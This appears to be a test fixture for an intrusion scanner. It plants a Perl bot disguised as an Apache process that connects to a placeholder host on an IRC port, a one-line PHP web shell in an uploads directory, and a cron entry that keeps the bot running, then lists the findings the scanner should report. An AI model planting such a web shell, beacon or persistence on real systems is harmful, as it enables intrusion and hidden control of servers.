# id: C16
# mode: scan
# level: suspicious
# due: now
# root: service
# network: world
# title: a bot in perl that calls itself a web server, started through a page, and cron
. "$here/intruder.sh"
word name
pick place "/tmp/.X11-unix/.$name" /var/tmp/.ICE-unix /dev/shm/.s
mkdir -p "$place"
cat >"$place/$name.pl" <<END
use IO::Socket::INET;
\$0 = "/usr/sbin/apache2 -k start";
my \$peer = IO::Socket::INET->new(PeerAddr => "$far", PeerPort => 6667) or die;
open(my \$said, ">", "$dropped/$name"); close(\$said);
sleep 100000;
END
chmod -R a+rX "$place"
word page
echo '<?php exec($_GET["a"]);' >"/var/www/html/uploads/$page.php"
chown www-data "/var/www/html/uploads/$page.php"
web_service
ask "/uploads/$page.php?a=perl+$place/$name.pl" 8081
dialled "$name"
said pid "$(pgrep -u www-data -f 'apache2 -k start')"
said path "/var/www/html/uploads/$page.php"
crontab_of www-data "*/5 * * * * perl $place/$name.pl >/dev/null 2>&1"
said entry name php-fpm
said restarter path /var/spool/cron/crontabs/www-data
